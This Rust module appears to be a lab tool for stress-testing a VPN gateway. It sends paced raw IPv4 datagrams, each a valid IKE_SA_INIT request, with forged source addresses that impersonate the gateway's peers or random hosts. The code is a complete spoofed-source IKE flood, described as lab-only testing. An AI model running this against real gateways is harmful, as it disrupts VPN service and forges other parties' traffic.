//! First IKE requests from addresses and ports that are not the sender's: what a stranger can throw at a gateway.
//!
//! Raw IPv4 datagrams, paced; each is a good IKE_SA_INIT with an SPI of its own. A part of them claims to come from the
//! gateway's true peers, the others from nobody in particular. Only inside a namespace of the lab.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use ike::crypto::KeyPair;
use ike::wire::{
    self, DhGroup, EncrId, ExchangeType, Flags, Header, KeyExchange, Payload, PrfId, Proposal, ProtocolId,
    SecurityAssociation, Transform,
};
use model::{IkeSpi, SecureRng as _};
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use serde::{Deserialize, Serialize};

/// Datagrams between two looks at the clock.
const BURST: u64 = 20;
const IP_HEADER: usize = 20;
const UDP_HEADER: usize = 8;
/// One in so many claims to come from an address that is no peer's.
const STRANGER: u64 = 4;

/// What to send.
#[derive(Clone, Debug)]
pub struct Options {
    /// The gateway.
    pub target: Ipv4Addr,
    /// Addresses of its peers, in turn the pretended sources.
    pub peers: Vec<Ipv4Addr>,
    /// Datagrams.
    pub count: u64,
    /// Datagrams a second at most.
    pub rate: u64,
}

/// What came of it.
#[derive(Clone, Copy, Debug, Serialize, Deserialize)]
pub struct Report {
    /// Datagrams that left.
    pub sent: u64,
    /// Those that the kernel refused.
    pub refused: u64,
    /// From the first to the last.
    pub seconds: f64,
}

/// Sends all of them.
///
/// # Errors
/// Without the right to raw sockets.
pub fn run(options: &Options) -> Result<Report> {
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).context("a raw socket")?;
    let request = first_request()?;
    let target = SocketAddrV4::new(options.target, 0);
    let (start, mut report) = (Instant::now(), Report { sent: 0, refused: 0, seconds: 0.0 });
    for n in 0..options.count {
        if n.is_multiple_of(BURST) {
            let due = Duration::from_micros(n * 1_000_000 / options.rate.max(1));
            std::thread::sleep(due.saturating_sub(start.elapsed()));
        }
        let datagram = datagram(options, &request, n);
        match sendto(&raw, &datagram, SendFlags::empty(), &target) {
            Ok(_) => report.sent += 1,
            Err(_) => report.refused += 1,
        }
    }
    report.seconds = start.elapsed().as_secs_f64();
    Ok(report)
}

/// A request that a gateway with AWS's defaults would answer.
fn first_request() -> Result<Vec<u8>> {
    let pair = KeyPair::generate(DhGroup::ECP_384, &mut net::OsRng)?;
    let mut nonce = vec![0; 32];
    net::OsRng.fill(&mut nonce);
    let transforms = vec![
        Transform::encryption(EncrId::AES_GCM_16, Some(256)),
        Transform::prf(PrfId::PRF_HMAC_SHA2_384),
        Transform::group(DhGroup::ECP_384),
    ];
    let proposal = Proposal { number: 1, protocol: ProtocolId::IKE, spi: Vec::new(), transforms };
    let payloads = [
        Payload::Sa(SecurityAssociation { proposals: vec![proposal] }),
        Payload::Ke(KeyExchange { group: DhGroup::ECP_384, data: pair.public().to_vec() }),
        Payload::Nonce(nonce),
    ];
    let header = Header::new(IkeSpi(1), IkeSpi::ZERO, ExchangeType::IKE_SA_INIT, Flags::new(true, false), 0);
    Ok(wire::encode(&header, &payloads))
}

/// The datagram number `n`, its IP header in front; the kernel fills in that header's checksum.
fn datagram(options: &Options, request: &[u8], n: u64) -> Vec<u8> {
    // SplitMix64: an SPI and a port that no other datagram has together.
    let mut z = n.wrapping_add(1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z ^= z >> 27;
    let peers = options.peers.len().max(1) as u64;
    let stranger = Ipv4Addr::from(0x6440_0000 | (z >> 42) as u32);
    let source = match options.peers.get((n % peers) as usize) {
        Some(peer) if !n.is_multiple_of(STRANGER) => *peer,
        _ => stranger,
    };
    let port = 1_024 + (n % 60_000) as u16;
    let udp = u16::try_from(UDP_HEADER + request.len()).unwrap_or(u16::MAX);
    let total = u16::try_from(IP_HEADER).unwrap_or(0).saturating_add(udp);
    let mut out = vec![0x45, 0];
    out.extend(total.to_be_bytes());
    out.extend([0, 0, 0, 0, 64, 17, 0, 0]);
    out.extend(source.octets());
    out.extend(options.target.octets());
    out.extend(port.to_be_bytes());
    out.extend(500_u16.to_be_bytes());
    out.extend(udp.to_be_bytes());
    // No checksum (RFC 768).
    out.extend([0, 0]);
    out.extend(z.to_be_bytes());
    out.extend(request.get(8..).unwrap_or_default());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_datagram_is_a_whole_first_request_with_an_spi_of_its_own() {
        let peers: Vec<Ipv4Addr> = ["198.51.100.1", "203.0.113.1"].map(|ip| ip.parse().unwrap()).to_vec();
        let options =
            Options { target: "192.0.2.1".parse().unwrap(), peers: peers.clone(), count: 400, rate: 1 };
        let request = first_request().unwrap();
        let (mut spis, mut sources) = (Vec::new(), Vec::new());
        for n in 0..options.count {
            let datagram = datagram(&options, &request, n);
            let length = u16::from_be_bytes([datagram[2], datagram[3]]);
            assert_eq!(usize::from(length), datagram.len());
            let message = wire::parse(&datagram[IP_HEADER + UDP_HEADER..]).unwrap();
            assert_eq!((message.header.exchange, message.payloads.len()), (ExchangeType::IKE_SA_INIT, 3));
            spis.push(message.header.spi_i);
            sources.push(Ipv4Addr::new(datagram[12], datagram[13], datagram[14], datagram[15]));
        }
        spis.sort_unstable();
        spis.dedup();
        assert_eq!(spis.len(), 400);
        for peer in peers {
            assert!(sources.iter().filter(|source| **source == peer).count() >= 100, "{peer}");
        }
    }
}
